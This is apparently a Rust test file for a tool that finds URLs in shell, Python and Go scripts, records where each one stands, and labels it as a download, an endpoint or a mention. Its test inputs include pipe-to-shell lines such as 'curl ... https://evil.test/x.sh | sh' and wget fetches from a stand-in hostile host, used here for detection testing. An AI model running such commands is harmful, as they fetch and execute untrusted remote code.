//! What the tests of all languages share, and what is found in shell scripts.

use crate::model::{CommandSyntax, Commands, Document, Encoding, ScriptRoles, Vocabulary, Wanted};

#[derive(serde::Deserialize)]
struct Shell {
    command: Vec<CommandSyntax>,
    script: ScriptRoles,
}

/// What the files under `rules/roles` say of scripts.
pub(in crate::parse) fn vocabulary() -> Vocabulary {
    let mut vocabulary = Vocabulary::default();
    let shell: Shell = toml::from_str(include_str!("../../../rules/roles/shell.toml")).unwrap();
    let mut commands = Commands::default();
    shell.command.into_iter().for_each(|syntax| commands.add(syntax));
    vocabulary.commands = commands;
    vocabulary.scripts.insert("shell".to_owned(), shell.script);
    vocabulary.secret_names = toml::from_str(include_str!("../../../rules/masking/names.toml")).unwrap();
    for (language, data) in [
        ("python", include_str!("../../../rules/roles/python.toml")),
        ("go", include_str!("../../../rules/roles/go.toml")),
        ("java", include_str!("../../../rules/roles/java.toml")),
        ("ruby", include_str!("../../../rules/roles/ruby.toml")),
        ("powershell", include_str!("../../../rules/roles/powershell.toml")),
        ("javascript", include_str!("../../../rules/roles/javascript.toml")),
    ] {
        vocabulary.scripts.insert(language.to_owned(), toml::from_str(data).unwrap());
    }
    for (language, data) in [
        ("python", include_str!("../../../rules/requests/python.toml")),
        ("powershell", include_str!("../../../rules/requests/powershell.toml")),
        ("go", include_str!("../../../rules/requests/go.toml")),
        ("javascript", include_str!("../../../rules/requests/javascript.toml")),
        ("java", include_str!("../../../rules/requests/java.toml")),
        ("ruby", include_str!("../../../rules/requests/ruby.toml")),
    ] {
        vocabulary.requests.insert(language.to_owned(), toml::from_str(data).unwrap());
    }
    vocabulary
}

/// The URLs of a document: where each stands, its role, its text.
pub(in crate::parse) fn urls(path: &str, source: &str) -> Vec<String> {
    let document = Document::new(path, source, Encoding::Utf8 { bom: false });
    let facts = crate::parse::parse(&document, &vocabulary(), Wanted::all());
    let mut urls: Vec<_> = facts.urls.iter().collect();
    urls.sort_by_key(|url| url.span);
    let place = |offset| {
        let position = document.position(offset);
        format!("{}:{}", position.line, position.column)
    };
    urls.into_iter().map(|url| format!("{}-{} {} {}", place(url.span.start), place(url.span.end), url.role, url.text)).collect()
}

#[test]
fn shell_commands_fetch_and_call() {
    assert_eq!(urls("a.sh", "curl https://ev''il.te\"st\"/x\n"), ["1:6-1:29 download https://evil.test/x"]);
    assert_eq!(urls("a.sh", "curl \\\n  -fsSL \\\n  https://evil.test/x.sh | sh\n"), ["3:3-3:25 download https://evil.test/x.sh"]);
    assert_eq!(urls("a.sh", "curl -LO evil.test/x.tgz\n"), ["1:10-1:25 download http://evil.test/x.tgz"]);
    assert_eq!(urls("a.sh", "curl -d '{\"a\": 1}' https://a.test/x\n"), ["1:20-1:36 endpoint https://a.test/x"]);
    assert_eq!(urls("a.sh", "x=$(curl -s https://a.test/x | jq .)\n"), ["1:13-1:29 download https://a.test/x"]);
    assert_eq!(
        urls("a.sh", "echo 'see https://a.test/x.' # https://b.test\n"),
        ["1:11-1:27 mention https://a.test/x", "1:32-1:46 mention https://b.test"]
    );
}

#[test]
fn shell_variables_are_folded() {
    assert_eq!(urls("a.sh", "B=https://evil.test\ncurl \"$B/x\"\n"), ["1:3-1:20 download https://evil.test/x"]);
    assert_eq!(urls("a.sh", "curl ${B:-https://a.test}/x\n"), ["1:11-1:28 download https://a.test/x"]);
    assert_eq!(
        urls("a.sh", "B=https://a.test/\nf() { local P=$1; wget -q \"${B%/}/$P\"; }\nf x\n"),
        ["1:3-1:18 download https://a.test//x"]
    );
    assert_eq!(urls("a.sh", "f() { wget -q \"https://a.test/$1\"; }\n"), ["1:16-1:33 download https://a.test/{1}"]);
    assert_eq!(urls("a.sh", "H=(-H 'A: b')\nU=https://a.test\ncurl \"${H[@]}\" $U\n"), ["2:3-2:17 endpoint https://a.test"]);
    assert_eq!(urls("a.sh", "[ -n \"$A\" ] || A=https://a.test\ncurl $A/x\n"), ["1:18-1:32 download https://a.test/x"]);
    assert_eq!(
        urls("a.sh", "for h in a b; do curl https://$h.test/; done\n"),
        ["1:23-1:39 download https://a.test/", "1:23-1:39 download https://b.test/"]
    );
}

#[test]
fn here_documents_are_read_by_what_gets_them() {
    assert_eq!(urls("a.sh", "bash <<'EOF'\ncurl https://a.test/x\nEOF\n"), ["2:6-2:22 download https://a.test/x"]);
    assert_eq!(
        urls("a.sh", "python3 - <<EOF\nimport requests\nrequests.get('https://a.test/x')\nEOF\n"),
        ["3:15-3:31 endpoint https://a.test/x"]
    );
    assert_eq!(urls("a.sh", "cat > f <<EOF\ncurl https://a.test/x\nEOF\n"), ["2:6-2:22 mention https://a.test/x"]);
    assert_eq!(urls("a.sh", "sudo sh -c \"curl https://a.test/x\"\n"), ["1:18-1:34 download https://a.test/x"]);
}

#[test]
fn sessions_are_taken_apart() {
    let source = "$ curl -s \\\n> https://a.test/x\n{\"url\": \"https://b.test/y\"}\n";
    assert_eq!(urls("a.sh", source), ["2:3-2:19 download https://a.test/x", "3:10-3:26 mention https://b.test/y"]);
}

#[test]
fn a_megabyte_of_quotes_is_read_in_linear_time() {
    for quotes in ["'", "\"", "`", "$'", "'\"", "\\\"", "\"$("] {
        urls("a.sh", &format!("curl https://a.test/ {}", quotes.repeat((1 << 20) / quotes.len() - 64)));
    }
}

/// The names of the functions in which something was found, and how many lines each takes.
fn anchors(path: &str, source: &str) -> Vec<String> {
    let document = Document::new(path, source, Encoding::Utf8 { bom: false });
    let facts = crate::parse::parse(&document, &vocabulary(), Wanted::all());
    facts.anchors.iter().map(|anchor| format!("{} {}", anchor.name, document.slice(anchor.span).lines().count())).collect()
}

#[test]
fn functions_that_hold_a_fact_are_named() {
    let python = "class C:\n  def f(self):\n    x('https://a.test')\ndef g():\n  pass\n";
    assert_eq!(anchors("a.py", python), ["C 3", "f 2"]);
    assert_eq!(anchors("a.sh", "f() {\n  curl https://a.test\n}\nfunction g { z; }\n"), ["f 3"]);
    let go = "package p\nfunc f() {\n}\nfunc (c *C) Do() { g(\"https://a.test\") }\n";
    assert_eq!(anchors("a.go", go), ["Do 1"]);
}
